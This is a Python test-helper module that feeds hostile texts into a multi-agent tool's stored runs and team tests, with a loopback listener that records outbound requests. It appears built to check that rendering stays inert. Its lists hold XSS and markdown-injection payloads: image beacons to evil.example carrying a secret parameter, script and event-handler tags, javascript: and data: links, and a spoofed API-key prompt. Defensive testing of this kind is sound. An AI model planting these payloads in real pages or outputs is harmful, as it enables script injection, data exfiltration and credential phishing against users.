"""Hostile texts, a listener that hears what they fetch, and a run whose every text is hostile."""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

from swarm.config import Settings
from swarm.experiment.launch import launch_experiment
from swarm.history.store import History
from swarm.mission import Mission, Requirement
from swarm.recording.events import CallEnded, Event, RunFinished
from swarm.teams.formats import settled
from swarm.teams.reading.given import GivenRole, GivenTask, GivenTeam, Note
from swarm.teams.storage import keep_team
from swarm.teams.trial.arms import team_test
from swarm.turn import Assignment, TurnKey
from swarm.verdict import CRITERIA, Score, Verdict
from tests.browser.looking import wait_until
from tests.made import call, keep
from tests.recorded import a_turn, events_of

TEMPLATES = (
    "![pixel]({evil}/markdown.png?secret=1)",
    "![reference][x]\n\n[x]: {evil}/reference.png",
    '![title]({evil}/title.png "title")',
    "[click](javascript:window.hit=1) <{evil}/auto> [id]: <b>",
    "[data](data:text/html,<script>window.hit=1</script>)",
    "{evil}/bare HTTPS://evil.example www.evil.example a@evil.example xmpp:a@evil.example",
    "<script>window.hit=1</script>",
    "<img src={evil}/img.png onerror=window.hit=1>",
    "<svg onload=window.hit=1></svg><style>@import '{evil}/style.css';</style>",
    "<iframe src={evil}/frame.html></iframe><object data={evil}/object></object>",
    "<a href='{evil}/link'>link</a><b onmouseover=window.hit=1>bold</b>",
    '<link rel=stylesheet href={evil}/link.css><div style="background:url({evil}/back.png)">x</div>',
    "<video poster={evil}/poster.png></video><form action={evil}/form><input autofocus onfocus=window.hit=1>",
    ":red[red] :material/home: :smile: # heading\n- item | a | b |\n> quote",
    "$x^2$ \\href{{javascript:window.hit=1}}{{x}} \\includegraphics{{{evil}/latex.png}}",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:window.hit=1"\n```',
    "</text></svg><image href={evil}/svg.png /> <tspan>span</tspan> %{{customdata}} <sup>up</sup>",
    "Session expired. Enter your API key: \u202egnp.exe\u202c \u200bzero\u0000nul",
)
PAYLOADS = (
    "![pixel](http://evil.example/pixel.png?secret=1)",
    "![ref][x]\n\n[x]: http://evil.example/ref.png",
    "[click](javascript:alert(1)) <http://evil.example/auto> [id]: <b>",
    "http://evil.example/bare HTTPS://evil.example www.evil.example a@evil.example xmpp:a@evil.example",
    "<script>window.hit=1</script><img src=http://evil.example/img.png onerror=window.hit=1>",
    "<svg onload=window.hit=1></svg><style>@import 'http://evil.example/a.css';</style>",
    "<iframe src=http://evil.example></iframe><a href='http://evil.example'>link</a>",
    ":red[red] :material/home: $x^2$ :smile: # heading\n- item | a | b |",
)
HOSTILE = " ".join(PAYLOADS)
"""Hostile texts for files, where nobody listens."""


@dataclass(slots=True)
class Listener:
    """A server on loopback that stands for somebody else's, and remembers what was asked of it."""

    url: str
    heard: list[str] = field(default_factory=list[str])


@contextmanager
def listening() -> Iterator[Listener]:
    """A listener, while the context lasts."""

    class Ear(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            listener.heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Ear)
    listener = Listener(f"http://127.0.0.1:{server.server_port}")
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield listener
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def payloads(listener: Listener) -> list[str]:
    """The hostile texts, which ask the listener for something if they can."""
    return [template.format(evil=listener.url) for template in TEMPLATES]


def hostile_run(settings: Settings, texts: list[str], run_id: str = "20261122-120000-abc123") -> str:
    """Keep a run in which every text is hostile, wherever an agent, a judge or a file can write one."""
    every = " ".join(texts).replace("\0", "")
    calls = (replace(call(1), reply=None, error=every), replace(call(2), reply=every, served_by=every))
    turns = [
        a_turn(
            number,
            role=text[:300],
            text=f"{text}\n{every}",
            reason=every,
            notes=(every,),
            calls=calls,
            builds_on=[number - 1] if number % 5 > 1 else [],
            heard=tuple(TurnKey(1, other) for other in range(1, number)),
            assignments=(Assignment(number, text, every),),
        )
        for number, text in enumerate(texts, 1)
    ]
    turns += [a_turn(len(texts) + 1, "abstain", reason=every), a_turn(len(texts) + 2, "failed", reason=every)]
    mission = Mission("own", every[:200], every, tuple(texts), tuple(Requirement(text) for text in texts))
    scores = tuple(Score(name, 3, every) for name in CRITERIA)
    judged = Verdict(every, scores, calls=(replace(call(3), reply=every),))
    events = events_of(
        turns,
        run_id=run_id,
        judged=judged,
        mission=mission,
        spec={"warnings": (every,), "organization": every[:100]},
    )
    keep(settings, _with_an_unhappy_end(events, every))
    return run_id


def _with_an_unhappy_end(events: list[Event], text: str) -> list[Event]:
    *others, end = events
    assert isinstance(end, RunFinished)
    failed = CallEnded(
        run_id=end.run_id,
        seq=end.seq,
        at=end.at,
        t=end.t,
        index=0,
        outcome=replace(call(4), reply=None, error=text),
        because=text,
    )
    return [*others, failed, replace(end, seq=end.seq + 1, status="failed", reason=text, deliverable=text)]


def hostile_test(settings: Settings, texts: list[str]) -> tuple[str, str]:
    """Keep a team whose every text is hostile, and its test; returns the ids of both."""
    every = " ".join(texts).replace("\0", "")
    team = settled(
        GivenTeam(
            every,
            tuple(GivenRole(text, text, every, every) for text in texts[:4]),
            tasks=tuple(GivenTask(f"task-{number}", text, text) for number, text in enumerate(texts[:6])),
            goal=every,
            source=every,
            notes=tuple(Note(kind, every, every) for kind in ("understood", "changed", "ignored")),
        )
    )
    missions = [
        Mission("own", f"{number} {text}"[:80], every, requirements=(Requirement(text),))
        for number, text in enumerate(texts[:6])
    ]
    test = team_test(team, missions, settings, model="sim/weak")
    experiment_id = launch_experiment(test, settings)
    wait_until(
        lambda: History(settings).experiment(experiment_id)[0].status != "running", "the test has ended"
    )
    return keep_team(settings, team), experiment_id
